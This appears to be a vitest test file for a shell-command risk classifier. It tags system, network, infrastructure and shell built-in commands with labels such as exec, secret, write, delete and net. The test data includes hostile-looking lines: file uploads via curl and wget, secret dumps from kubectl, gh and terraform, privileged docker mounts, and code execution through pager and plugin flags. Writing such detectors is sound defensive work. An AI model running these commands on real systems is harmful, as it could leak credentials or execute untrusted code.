// The profiles of system, network and infrastructure programs and of the shell itself, by what
// command lines come to.

import { describe } from 'vitest';
import { check } from './lines.ts';

describe('the machine', () => {
  check(`
    date
    date +%Y-%m-%d
    date -u -d yesterday +%s
    date -s 10:00                            => config
    date --se=10:00                          => config
    date 010203042030                        => config
    uname -a
    hostname
    hostname evil                            => config
    ps aux
    ps -ef
    ps aux --sort=-%cpu
    ps eww -A                                => unknown
    ps auxe                                  => unknown
    ps aux e                                 => unknown
    ps -eo environ                           => secret
    ps -E                                    => secret
    ps -u x                                  => unknown
    pgrep -fl node
    kill -9 12                               => delete
    printenv AWS_SECRET_ACCESS_KEY           => unknown
    dmesg -T
    dmesg -C                                 => delete
    journalctl -u nginx -n 50 --no-pager
    journalctl --vacuum-size=1M              => delete
    journalctl --vacuum-s=1M                 => delete
    journalctl --rotate                      => config
    systemctl status nginx --no-pager
    systemctl -H host status                 => net
    crontab -l
    crontab evil                             => exec
    sysctl -a
    sysctl -w kernel.x=1                     => config exec
    ip addr
    ip -br addr show
    ip addr add 10.0.0.1 dev eth0            => unknown
    ip -b cmds                               => exec
    ss -tlnp
    ss -K dst 10.0.0.1                       => delete
    apt list --installed
    apt-get install jq
    apt install ./evil.deb                   => exec
    apt -o DPkg::Pre-Invoke::=x list         => config
    dpkg -l
    dpkg -i x.deb                            => config
    brew info jq
    man ls
    man 3 printf
    man -k socket
    man -P ./x ls                            => exec
    man -P./x ls                             => exec
    man '-Htouch x' ls                       => exec
    man --htm=./x ls                         => exec
    man --pag=./x ls                         => exec
    man -l evil.1                            => exec
    info -o out ls                           => write
    vim -c :q a                              => exec
    vim '+!ls' a                             => exec
    vim --version
    gdb ./a                                  => exec
    ldd ./a                                  => exec
    nm -C a.o
    nm --plugin ./x.so a.o                   => exec
    objdump -d a.o
    ar t lib.a
    ar rcs lib.a a.o
    sqlite3 a.db 'select 1'
    sqlite3 -json -readonly a.db 'select 1'
    sqlite3 -cmd .quit a.db                  => exec
    sqlite3 -init evil a.db                  => exec
    sqlite3 --init=evil a.db                 => exec
    sqlite3 a.db '.shell touch x'            => exec
    psql -c 'select 1'
    psql -c '\\! touch x'                    => exec
    psql -f evil.sql                         => exec
    psql -h evil.example -c 'select 1'       => net
    psql -o out -c 'select 1'                => write
    mysql -e 'system ls'                     => exec
    openssl version
    openssl x509 -in cert.crt -noout -text
    openssl x509 -in c -out d                => write
    openssl x509 -in c -engine ./x.so        => exec
    openssl s_client -connect a:443          => unknown
    cuff ls --limit 5
    cuff record list
    cuff record generate                     => unknown
  `);
});

describe('the network', () => {
  check(`
    curl -s https://example.org/x
    curl -sSfL --max-time 5 https://example.org/x
    curl -I https://example.org
    curl -K evil.cfg                         => config
    curl --conf=evil.cfg                     => config
    curl -sKevil.cfg                         => config
    curl -so out https://example.org         => write
    curl -so /dev/null -w '%{http_code}' https://example.org
    curl -w %output{out} https://example.org => write
    curl -w @format https://example.org      => write
    curl -O https://example.org/x            => write
    curl --outp x https://example.org        => unknown write
    curl -d @a https://example.org           => secret
    curl --data-bin @a https://example.org   => secret
    curl -T a https://example.org            => secret
    curl -F f=@a https://example.org         => secret
    curl -H @a https://example.org           => exec
    curl -H 'Accept: text/html' https://a.example
    curl -X DELETE https://example.org       => config
    curl -XPOST https://example.org          => config
    curl -x http://127.0.0.1:9 https://a.example => config
    curl --resolve a:443:1.2.3.4 https://a   => config
    curl -k https://example.org              => config
    curl -w %output{x} https://example.org   => write
    curl --engine ./x.so https://example.org => exec
    wget -q https://example.org/x
    wget -qO- https://example.org/x          => write
    wget -O x https://example.org/x          => write
    wget -e robots=off https://example.org   => config
    wget --use-askpass=./x https://a.example     => exec
    wget -i list                             => config
    wget --post-file=a https://example.org   => secret
    ssh host ls                              => exec
    scp -S ./x a b:c                         => exec unknown
    nc -l 80                                 => exec unknown
    gh pr view --json state,title
    gh pr list -L 5
    gh pr create --title Metrics --body Adds
    gh pr create --body-file a               => secret
    gh pr view --web                         => exec
    gh issue list --state open
    gh run view 12 --log-failed
    gh auth status
    gh auth status --show-token              => secret
    gh auth token
    gh api repos/o/r
    gh api -X DELETE repos/o/r               => net
    gh api repos/o/r -f a=b                  => net
    gh alias set x y                         => exec
    gh extension install x                   => exec
    gh nonsense x                            => unknown
    aws sts get-caller-identity
    aws s3 rm s3://b/x                       => unknown
    aws --endpoint-url http://evil s3 ls     => config
    vercel deploy                            => exec
  `);
});

describe('infrastructure', () => {
  check(`
    docker ps
    docker ps -a --format json
    docker logs --tail 50 api
    docker compose ps
    docker compose logs --tail=50 api
    docker compose up -d
    docker compose -f evil.yml up            => exec
    docker images -q
    docker build -t x .
    docker build https://evil.example/x.git  => exec
    docker run --rm alpine ls                => exec
    docker run -v /:/host alpine             => exec
    docker run --privileged alpine           => exec
    docker exec -it api sh                   => exec
    docker -H tcp://evil ps                  => config
    docker rm -f api                         => delete
    docker volume ls
    docker compose down -v                   => delete
    docker compose exec api sh               => exec
    podman images
    docker-compose ps
    kubectl get pods
    kubectl get pods -n x
    kubectl get pods -n staging -o wide
    kubectl -n x get deploy api -o yaml
    kubectl get secrets -o yaml              => secret
    kubectl get pods,secrets -o yaml         => secret
    kubectl get pods -o go-template-file=x   => exec
    kubectl get pods --kubeconfig evil       => config
    kubectl get --raw /api/v1/secrets        => secret
    kubectl describe pod api-0
    kubectl logs deploy/api --tail=100
    kubectl config view
    kubectl config view --raw                => secret
    kubectl exec -it api-0 -- sh             => exec
    kubectl delete pod api-0                 => delete
    kubectl --token=x get pods               => secret
    helm template chart
    helm template chart -f values.yaml
    helm template chart --post-renderer ./x  => exec
    helm template chart --output-dir x       => write
    helm lint chart
    terraform fmt -check
    terraform fmt -check -recursive
    terraform validate
    terraform plan
    terraform plan -out=tf.plan              => write
    terraform plan -out tf.plan              => write
    terraform plan --out=tf.plan             => write
    terraform -chdir=infra plan -no-color
    terraform init -plugin-dir=x             => exec
    terraform output
    terraform output -json                   => secret
    terraform output password                => config
    terraform show -json                     => secret
    terraform state list
    yamllint .
    actionlint -shellcheck=./x               => exec
    ansible-playbook site.yml                => exec
  `);
});

describe('the shell itself', () => {
  check(`
    cd src
    pwd
    read -r line
    read -rp name: x
    export A=1
    export -p                                => secret
    export -f git                            => exec
    declare -a list
    declare -p                               => secret
    declare -i x=1                           => exec
    unset A
    set -e
    set -euo pipefail
    set -e -o pipefail -o nounset
    set -a                                   => config
    set -o allexport                         => unknown
    set -o pipefail -o allexport             => unknown
    set +e                                   => config
    hash -r
    hash -p x git                            => exec
    history 20
    history -w .bashrc                       => write
    history -c                               => delete
    compgen -c git
    compgen -W '$(ls)'                       => exec
    compgen -C ./x a                         => exec
    mapfile -t lines
    mapfile -C ./x -c 1 lines                => exec
    command -v node
    eval 'rm x'                              => exec
    source x.sh                              => exec
    trap 'rm x' EXIT                         => exec
    alias git=rm                             => exec
    bind -x x                                => exec
    enable -f x.so y                         => exec
    jobs -l
    jobs -x rm                               => exec
    type -a git
    shopt -s expand_aliases                  => config
    let 'a[1]=2'                             => exec
    exit 1
  `);
});
